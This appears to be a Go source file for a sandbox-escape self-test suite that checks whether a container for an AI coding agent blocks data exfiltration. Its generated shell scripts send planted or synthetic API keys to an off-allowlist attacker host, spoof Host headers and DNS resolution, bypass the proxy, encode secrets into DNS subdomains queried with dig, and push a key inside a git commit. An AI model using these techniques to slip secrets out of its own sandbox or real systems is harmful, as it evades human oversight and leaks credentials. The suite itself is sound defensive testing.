// Package selftest is the sandbox-escape suite (docs/threat-model.md) as data: the
// five attacks and the positive controls, each a POSIX sh script run inside
// a bottle's agent (on stdin, never on argv) and a judge that accepts only
// a permissions answer from the bottle — an HTTP 403 carrying "egress:" or
// "blocked:", a gitleaks rejection, or a proven absence of any path — and
// treats a timeout or a generic error as a failure. The same cases back
// `claude-bottle selftest` and the integration suite, which adds checks of
// the far side (what the stand-in internet received).
package selftest

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"math/big"
	"regexp"
	"strconv"
	"strings"
	"sync"

	"github.com/claude-bottle/claude-bottle/pkg/contract"
)

// Secret is a value the agent holds and must not get out: either the name
// of a variable in the agent's environment (the planted secrets of the
// suite) or a literal value carried in the script (synthetic secrets).
type Secret struct {
	Name  string // short label used in case IDs: "anthropic", "aws", "generic"
	Env   string // agent variable holding the value, or ""
	Value string // literal value when Env is ""
}

func (s Secret) shell() string {
	if s.Env != "" {
		return `"$` + s.Env + `"`
	}
	return shellQuote(s.Value)
}

// Synthetic returns fresh secrets shaped like an Anthropic API key, an AWS
// access key id and a generic high-entropy token. None is live.
func Synthetic() []Secret {
	const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	const upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
	return []Secret{
		{Name: "anthropic", Value: "sk-ant-api03-" + randomFrom(alnum+"-_", 93) + "AA"},
		{Name: "aws", Value: "AKIA" + randomFrom(upper, 16)},
		{Name: "generic", Value: "tok_" + randomFrom(alnum, 36)},
	}
}

func randomFrom(alphabet string, n int) string {
	b := make([]byte, n)
	for i := range b {
		k, err := rand.Int(rand.Reader, big.NewInt(int64(len(alphabet))))
		if err != nil {
			panic(err) // crypto/rand does not fail on Linux
		}
		b[i] = alphabet[k.Int64()]
	}
	return string(b)
}

// Target describes the bottle under test.
type Target struct {
	// AllowedURL is an https URL on an allowed route (host and any path
	// prefix the route requires), without a trailing slash.
	AllowedURL string
	// AuthURL is an allowed route where egress injects a credential ("" to
	// skip that control).
	AuthURL string
	// AttackerHost is a host name on no allowlist; AttackerIP an address
	// outside the bottle (the spoof target).
	AttackerHost string
	AttackerIP   string
	// OutsideResolver is the resolver the DNS attack queries directly.
	OutsideResolver string
	Secrets         []Secret
	// RepoURL is a declared git repo's upstream URL as the agent knows it
	// ("" skips attack 5); CleanPush adds the clean-push control (it writes
	// a branch to the real upstream: tests only).
	RepoURL   string
	CleanPush bool
	// Expect, when set, must appear in the allowed GET's body.
	Expect string
	// Branch prefixes the branches pushed by attack 5 and the control.
	Branch string
}

// Case is one sub-case of an attack (Attack 1-5) or a positive control
// (Attack 0).
type Case struct {
	ID     string `json:"id"`
	Attack int    `json:"attack"`
	Title  string `json:"title"`
	Script string `json:"-"`
	judge  func(out string) (bool, string)
	// needsInternet: a failure that is the upstream's unreachability is
	// reported as OutcomeUnreachable, not as the bottle's failure.
	needsInternet bool
}

// Outcomes of a case.
const (
	// OutcomePass: the attack got a permissions answer, or the control
	// got through.
	OutcomePass = "pass"
	// OutcomeFail: the bottle let an attack through, or refused (or broke)
	// a request it should allow.
	OutcomeFail = "fail"
	// OutcomeUnreachable: a control's allowed host could not be reached
	// from this machine (no route, DNS, connection refused or timed out
	// upstream): the bottle forwarded it, the network is at fault.
	OutcomeUnreachable = "unreachable"
)

// Result is the outcome of one case.
type Result struct {
	ID     string `json:"id"`
	Attack int    `json:"attack"`
	Title  string `json:"title"`
	Pass   bool   `json:"pass"`
	// Outcome is OutcomePass, OutcomeFail or OutcomeUnreachable.
	Outcome string `json:"outcome"`
	// Answer is what the bottle answered, one line, secrets redacted.
	Answer string `json:"answer"`
}

// Runner runs a script in the agent and returns its combined output.
type Runner func(ctx context.Context, script string) (string, error)

// Preflight is the script that checks the agent has the tools the attacks
// use; it fails naming each missing one.
const Preflight = `missing=""
for t in curl git dig; do command -v "$t" >/dev/null 2>&1 || missing="$missing $t"; done
if [ -n "$missing" ]; then echo "MISSING$missing"; exit 3; fi
echo TOOLS-OK
`

// CheckPreflight turns the preflight's output into an error naming what to
// install.
func CheckPreflight(out string) error {
	if strings.Contains(out, "TOOLS-OK") {
		return nil
	}
	if i := strings.Index(out, "MISSING"); i >= 0 {
		missing := strings.Fields(strings.SplitN(out[i+len("MISSING"):], "\n", 2)[0])
		return fmt.Errorf("the agent image lacks %s, which the escape suite needs (Debian packages: curl, git, dnsutils); add them to the image", strings.Join(missing, ", "))
	}
	return fmt.Errorf("the agent did not run the tool check: %s", firstLine(out))
}

// Cases returns every case for t, controls first.
func Cases(t Target) []Case {
	var cs []Case
	add := func(id string, attack int, title, script string, judge func(string) (bool, string)) {
		cs = append(cs, Case{ID: id, Attack: attack, Title: title, Script: script, judge: judge})
	}
	allowedHost := hostOf(t.AllowedURL)
	add("0/allowed-get", 0, "an allowed GET gets the site's answer", curl(t.AllowedURL+"/"), judgeReached(t.Expect))
	cs[len(cs)-1].needsInternet = true
	if t.AuthURL != "" {
		add("0/injected-credential", 0, "a request to a route with a credential reaches its host", curl(t.AuthURL+"/"), judgeReached(""))
		cs[len(cs)-1].needsInternet = true
	}
	if t.RepoURL != "" && t.CleanPush {
		add("0/clean-push", 0, "a clean commit is pushed through git-gate", push(t, t.Branch+"-clean", `echo "clean change" > CHANGES.md; git add CHANGES.md`), judgeForwarded)
	}

	add("1/host", 1, "HTTPS to a host off the allowlist", curl("https://"+t.AttackerHost+"/"), judgeHTTPBlock)
	add("1/host-http", 1, "plain HTTP to a host off the allowlist", curl("http://"+t.AttackerHost+"/"), judgeHTTPBlock)
	if t.AuthURL != "" {
		// A credential is injected only inside TLS: plain HTTP to the same
		// route is refused before anything is sent.
		add("1/cleartext-credential", 1, "plain HTTP to a route that carries a credential", curl("http://"+hostOf(t.AuthURL)+"/"), judgeHTTPBlock)
	}
	add("1/pipelock-direct", 1, "the agent's proxy pointed straight at pipelock, skipping egress",
		noPath("curl -sS --max-time 8 -o /dev/null -x http://"+contract.Pipelock+":"+strconv.Itoa(contract.Port(contract.Pipelock))+" "+t.AllowedURL+"/ 2>&1"), judgeNoPath)

	add("2/ip-literal", 2, "HTTPS to an IP literal", curl("https://"+t.AttackerIP+"/"), judgeHTTPBlock)
	add("2/ip-literal-http", 2, "plain HTTP to an IP literal", curl("http://"+t.AttackerIP+"/"), judgeHTTPBlock)
	add("2/host-header-spoof", 2, "an allowed Host header sent to another address", curl("-H "+shellQuote("Host: "+allowedHost)+" https://"+t.AttackerIP+"/"), judgeHTTPBlock)
	add("2/connect-to-spoof", 2, "an allowed name tunnelled to another address (--connect-to)", curl("--connect-to "+shellQuote(allowedHost+":443:"+t.AttackerIP+":443")+" "+t.AllowedURL+"/"), judgeHTTPBlock)
	add("2/host-mismatch", 2, "an allowed tunnel carrying another Host header", curl("-H "+shellQuote("Host: "+t.AttackerHost)+" "+t.AllowedURL+"/"), judgeHTTPBlock)
	add("2/direct-ip", 2, "a direct connection to an IP, bypassing the proxy", noPath("curl -sS --noproxy '*' --max-time 8 -o /dev/null https://"+t.AttackerIP+"/ 2>&1"), judgeNoPath)
	add("2/resolve-spoof-direct", 2, "an allowed name pinned to another address (--resolve), bypassing the proxy", noPath("curl -sS --noproxy '*' --max-time 8 -o /dev/null --resolve "+shellQuote(allowedHost+":443:"+t.AttackerIP)+" "+t.AllowedURL+"/ 2>&1"), judgeNoPath)

	for _, s := range t.Secrets {
		v := s.shell()
		add("3/"+s.Name+"/path", 3, s.Name+" secret in the URL path", curl(`"`+t.AllowedURL+`/v1/"`+v), judgeHTTPBlock)
		add("3/"+s.Name+"/query", 3, s.Name+" secret in the query string", curl(`"`+t.AllowedURL+`/search?q="`+v), judgeHTTPBlock)
		add("3/"+s.Name+"/body", 3, s.Name+" secret in a JSON body", curl(`-X POST -H 'Content-Type: application/json' --data "{\"note\":\"$(printf %s `+v+`)\"}" `+t.AllowedURL+`/notes`), judgeHTTPBlock)
		add("3/"+s.Name+"/header", 3, s.Name+" secret in a request header", curl(`-H "X-Note: $(printf %s `+v+`)" `+t.AllowedURL+`/`), judgeHTTPBlock)
	}

	for _, s := range t.Secrets {
		label := `$(printf %s ` + s.shell() + ` | base32 | tr -d '=\n' | tr 'A-Z' 'a-z' | cut -c1-60)`
		add("4/"+s.Name+"/subdomain", 4, s.Name+" secret base32 in a subdomain of the allowed host", curl(`"https://`+label+`.`+allowedHost+`/"`), judgeHTTPBlock)
		hexLabel := `$(printf %s ` + s.shell() + ` | od -An -tx1 | tr -d ' \n' | cut -c1-60)`
		add("4/"+s.Name+"/dig-outside", 4, s.Name+" secret hex in a query to "+t.OutsideResolver, noPath("dig +time=3 +tries=1 @"+t.OutsideResolver+` "`+hexLabel+`.`+allowedHost+`" 2>&1`), judgeNoPath)
		add("4/"+s.Name+"/dig-bottle", 4, s.Name+" secret hex in a query to the agent's own resolver", "dig +time=3 +tries=1 \""+hexLabel+"."+allowedHost+"\" 2>&1; echo \"EXIT $?\"\n", judgeNoDNSAnswer)
	}

	if t.RepoURL != "" {
		for _, s := range t.Secrets {
			readme := `printf 'See [docs](https://` + allowedHost + `/?key=%s)\n' ` + s.shell() + ` > README.md; git add README.md`
			add("5/"+s.Name+"/readme-push", 5, s.Name+" secret in a README link, pushed through git-gate", push(t, t.Branch+"-"+s.Name, readme), judgeGitleaks(t.RepoURL))
		}
		cs = append(cs, gitCases(t)...)
	}
	return cs
}

// Parallel is how many cases of one attack Run runs at once. Many cases
// wait on purpose (a connection attempt with no route runs into curl's or
// dig's timeout), so running them one by one made the suite minutes long.
const Parallel = 4

// Run executes cases with run and judges each; the results are in the
// order of cases. The cases of one attack run up to Parallel at a time,
// and an attack starts only when the one before it has finished, so the
// controls (attack 0) see a bottle no attack has touched yet. Each case's
// script keeps its files in its own temporary directory. Secrets given as
// literal values are redacted from the answers.
func Run(ctx context.Context, run Runner, cases []Case, secrets []Secret) []Result {
	out := make([]Result, len(cases))
	for lo := 0; lo < len(cases); {
		hi := lo + 1
		for hi < len(cases) && cases[hi].Attack == cases[lo].Attack {
			hi++
		}
		var wg sync.WaitGroup
		slots := make(chan struct{}, Parallel)
		for i := lo; i < hi; i++ {
			slots <- struct{}{}
			wg.Add(1)
			go func() {
				defer wg.Done()
				out[i] = runCase(ctx, run, cases[i], secrets)
				<-slots
			}()
		}
		wg.Wait()
		lo = hi
	}
	return out
}

func runCase(ctx context.Context, run Runner, c Case, secrets []Secret) Result {
	text, err := run(ctx, c.Script)
	r := Result{ID: c.ID, Attack: c.Attack, Title: c.Title, Outcome: OutcomeFail}
	if err != nil {
		r.Answer = "could not run: " + err.Error()
	} else {
		r.Pass, r.Answer = c.judge(text)
		switch {
		case r.Pass:
			r.Outcome = OutcomePass
		case c.needsInternet && upstreamUnreachable(text):
			r.Outcome = OutcomeUnreachable
			r.Answer = "allowed host unreachable from this machine (the bottle forwarded the request): " + r.Answer
		}
	}
	for _, s := range secrets {
		if s.Value != "" {
			r.Answer = strings.ReplaceAll(r.Answer, s.Value, "<"+s.Name+">")
		}
	}
	return r
}

// Judge judges output as case c would (for tests of the judges).
func (c Case) Judge(out string) (bool, string) { return c.judge(out) }

// Outcome judges out as Run would: OutcomePass, OutcomeFail or, for a
// control that needs the internet, OutcomeUnreachable.
func (c Case) Outcome(out string) string {
	if ok, _ := c.judge(out); ok {
		return OutcomePass
	}
	if c.needsInternet && upstreamUnreachable(out) {
		return OutcomeUnreachable
	}
	return OutcomeFail
}

// reUpstreamDown matches the answers of the bottle's proxies when they
// forwarded a request and the upstream could not be reached: pipelock's
// and egress' 502/504 bodies naming a dial, DNS or timeout failure.
var reUpstreamDown = regexp.MustCompile(`(?i)(no such host|server misbehaving|dial tcp|connection refused|network is unreachable|no route to host|i/o timeout|context deadline exceeded|timeout awaiting|tls handshake timeout|upstream unreachable|could not reach|lookup [^ ]+ on)`)

// upstreamUnreachable reports whether a control's output shows the
// bottle forwarding the request and the upstream not answering: a 502 or
// 504 from the proxies (never a 403 or a block header) whose body names a
// network failure.
func upstreamUnreachable(out string) bool {
	status, body, errText := httpResult(out)
	if status == 0 && (strings.Contains(errText, "CONNECT tunnel failed, response 502") || strings.Contains(errText, "CONNECT tunnel failed, response 504")) {
		// A tunnel the proxies admitted but could not dial (passthrough
		// hosts): curl hides the body; a refusal would carry the block
		// header and a 403.
		return !reBlockHeader.MatchString(out)
	}
	if status != 502 && status != 504 {
		return false
	}
	if reBlockHeader.MatchString(out) {
		return false
	}
	line := firstLine(body)
	if strings.HasPrefix(line, "blocked:") || strings.HasPrefix(line, "egress: ") && strings.Contains(line, "not allowed") {
		return false
	}
	return reUpstreamDown.MatchString(body)
}

// curl runs one request through the agent's configured proxy and prints a
// trailer the judges parse: the status, curl's exit code, and the first
// bytes of the body.
func curl(args string) string {
	return "d=$(mktemp -d)\ncurl -sS -v --max-time 20 -o \"$d/body\" -w 'HTTP %{http_code}\\n' " + args + " 2>\"$d/trace\"\necho \"EXIT $?\"\n" +
		// Only the answers' status lines and block headers, and curl's own
		// error: the trace's request lines would repeat what was sent.
		"grep -E '^(< HTTP/|< [Xx]-[Cc]laude-[Bb]ottle-[Bb]locked:|curl: )' \"$d/trace\"\necho BODY; head -c 400 \"$d/body\" 2>/dev/null\nrm -rf \"$d\"\n"
}

// noPath runs cmd, then prints the agent's routes and ARP table: the proof
// that a failure was no path at all and not a slow or broken one.
func noPath(cmd string) string {
	return cmd + "\necho \"EXIT $?\"\necho ROUTES; cat /proc/net/route\necho ARP; cat /proc/net/arp\n"
}

func push(t Target, branch, change string) string {
	return "set -e\nexport GIT_TERMINAL_PROMPT=0\nd=$(mktemp -d)\ngit clone -q " + shellQuote(t.RepoURL) + " \"$d/r\" 2>&1\ncd \"$d/r\"\n" +
		"git checkout -q -b " + shellQuote(branch) + "\n" + change + "\n" +
		"git -c user.name=selftest -c user.email=selftest@bottle.invalid commit -q -m 'selftest change'\n" +
		"set +e\nprintf '\\nPUSH\\n'\ngit push origin " + shellQuote("HEAD:refs/heads/"+branch) + " 2>&1\necho \"EXIT $?\"\ncd /; rm -rf \"$d\"\n"
}

var (
	reStatus = regexp.MustCompile(`(?m)^HTTP (\d{3})$`)
	reExit   = regexp.MustCompile(`(?m)^EXIT (\d+)$`)
	// reBlockHeader finds the block header of a proxy's answer in curl's trace.
	reBlockHeader = regexp.MustCompile(`(?mi)^< ` + regexp.QuoteMeta(contract.BlockHeader) + ` *: *(.+?)\r?$`)
	// reDNSStatus finds dig's answer status.
	reDNSStatus = regexp.MustCompile(`status: ([A-Z]+)`)
)

func exitCode(out string) int {
	m := reExit.FindAllStringSubmatch(out, -1)
	if len(m) == 0 {
		return -1
	}
	n, _ := strconv.Atoi(m[len(m)-1][1])
	return n
}

func httpResult(out string) (status int, body, errText string) {
	if m := reStatus.FindStringSubmatch(out); m != nil {
		status, _ = strconv.Atoi(m[1])
	}
	if _, b, ok := strings.Cut(out, "\nBODY\n"); ok {
		body = b
	}
	if i := strings.Index(out, "curl: ("); i >= 0 {
		errText = firstLine(out[i:])
	}
	return status, body, errText
}

// judgeHTTPBlock: a 403 from egress or pipelock.
func judgeHTTPBlock(out string) (bool, string) {
	status, body, errText := httpResult(out)
	line := firstLine(body)
	switch {
	case status == 403 && (strings.HasPrefix(line, "egress:") || strings.HasPrefix(line, "blocked:")):
		return true, "403 " + line
	case status == 0 && strings.Contains(errText, "CONNECT tunnel failed, response 403"):
		// Refused before the tunnel: curl hides the body, the block
		// header carries the answer.
		if m := reBlockHeader.FindStringSubmatch(out); m != nil && (strings.HasPrefix(m[1], "egress") || strings.HasPrefix(m[1], "pipelock")) {
			return true, "403 to CONNECT: " + m[1]
		}
		return false, "a 403 to CONNECT without the bottle's block header: " + errText
	case status != 0:
		return false, fmt.Sprintf("not blocked: HTTP %d %s", status, line)
	case errText != "":
		return false, "no permissions answer: " + errText
	}
	return false, "no answer: " + firstLine(out)
}

// judgeReached: the request got through to the site (not a bottle block).
func judgeReached(expect string) func(string) (bool, string) {
	return func(out string) (bool, string) {
		status, body, errText := httpResult(out)
		line := firstLine(body)
		switch {
		case status == 0:
			return false, "no answer: " + errText
		case status == 403 && (strings.HasPrefix(line, "egress:") || strings.HasPrefix(line, "blocked:")):
			return false, "blocked by the bottle: " + line
		case status >= 500 && status != 501:
			return false, fmt.Sprintf("HTTP %d %s", status, line)
		case expect != "" && !strings.Contains(body, expect):
			return false, fmt.Sprintf("HTTP %d without %q: %s", status, expect, line)
		}
		return true, fmt.Sprintf("HTTP %d %s", status, line)
	}
}

// judgeNoPath: the attempt failed and the agent provably has no way out:
// every route leads to a gateway that does not answer ARP (the internal
// network's bridge has no address), or there is no route at all.
func judgeNoPath(out string) (bool, string) {
	code := exitCode(out)
	if code == 0 {
		return false, "the attempt succeeded: " + firstLine(out)
	}
	_, rest, ok := strings.Cut(out, "\nROUTES\n")
	if !ok {
		return false, "no route table printed"
	}
	routes, arp, _ := strings.Cut(rest, "\nARP\n")
	gateways, err := parseGateways(routes)
	if err != nil {
		return false, err.Error()
	}
	resolved := parseARP(arp)
	for _, gw := range gateways {
		if mac, ok := resolved[gw]; ok {
			return false, fmt.Sprintf("the agent reaches gateway %s (%s): a path exists", gw, mac)
		}
	}
	what := "no route out"
	if len(gateways) > 0 {
		what = "no path: gateway " + strings.Join(gateways, ",") + " does not exist (internal network)"
	}
	return true, what + "; attempt failed (exit " + strconv.Itoa(code) + ")"
}

// parseGateways returns the gateways of /proc/net/route (hex, little endian).
func parseGateways(table string) ([]string, error) {
	var gws []string
	for _, line := range strings.Split(table, "\n") {
		f := strings.Fields(line)
		if len(f) < 3 || f[0] == "Iface" {
			continue
		}
		if len(f[2]) != 8 {
			return nil, fmt.Errorf("unreadable route table line %q", line)
		}
		b, err := hex.DecodeString(f[2])
		if err != nil {
			return nil, fmt.Errorf("unreadable route table line %q", line)
		}
		if ip := fmt.Sprintf("%d.%d.%d.%d", b[3], b[2], b[1], b[0]); ip != "0.0.0.0" {
			gws = append(gws, ip)
		}
	}
	return gws, nil
}

// parseARP returns the complete entries (flag 0x2) of /proc/net/arp.
func parseARP(table string) map[string]string {
	out := map[string]string{}
	for _, line := range strings.Split(table, "\n") {
		f := strings.Fields(line)
		if len(f) < 4 || f[0] == "IP" {
			continue
		}
		flags, err := strconv.ParseUint(strings.TrimPrefix(f[2], "0x"), 16, 32)
		if err == nil && flags&0x2 != 0 {
			out[f[0]] = f[3]
		}
	}
	return out
}

// judgeNoDNSAnswer: the agent's resolver gave no address for the name.
func judgeNoDNSAnswer(out string) (bool, string) {
	if strings.Contains(out, "ANSWER SECTION") {
		return false, "the name resolved: " + firstLine(out)
	}
	if m := reDNSStatus.FindStringSubmatch(out); m != nil {
		if m[1] == "NOERROR" {
			return false, "resolver answered NOERROR"
		}
		return true, "resolver answered " + m[1]
	}
	if exitCode(out) == 9 {
		return true, "no answer: the internal network's resolver does not forward outside names"
	}
	return false, "unexpected dig output: " + firstLine(out)
}

func judgeForwarded(out string) (bool, string) {
	_, p, _ := strings.Cut(out, "\nPUSH\n")
	if exitCode(out) == 0 && strings.Contains(p, "git-gate: scanned and forwarded") {
		return true, "scanned and forwarded"
	}
	return false, "push did not go through: " + firstLine(strings.TrimSpace(p+out))
}

// judgeGitleaks: the push failed with git-gate's gitleaks rejection and
// says nothing of the upstream phase.
func judgeGitleaks(repoURL string) func(string) (bool, string) {
	return func(out string) (bool, string) {
		_, p, ok := strings.Cut(out, "\nPUSH\n")
		if !ok {
			return false, "the commit was not prepared: " + firstLine(out)
		}
		if exitCode(p) == 0 {
			return false, "the push succeeded"
		}
		i := strings.Index(p, "git-gate: gitleaks rejected")
		if i < 0 {
			return false, "no gitleaks rejection: " + firstLine(p)
		}
		clean := strings.ToLower(strings.ReplaceAll(p, repoURL, "<repo>"))
		for _, w := range []string{"resolve", "refused", "unreachable", "upstream"} {
			if strings.Contains(clean, w) {
				return false, "the rejection mentions the upstream phase (" + w + ")"
			}
		}
		return true, firstLine(p[i:])
	}
}

func hostOf(u string) string {
	h := strings.TrimPrefix(strings.TrimPrefix(u, "https://"), "http://")
	h, _, _ = strings.Cut(h, "/")
	return h
}

func firstLine(s string) string {
	s = strings.TrimSpace(s)
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		s = s[:i]
	}
	if len(s) > 160 {
		s = s[:160] + "…"
	}
	return s
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
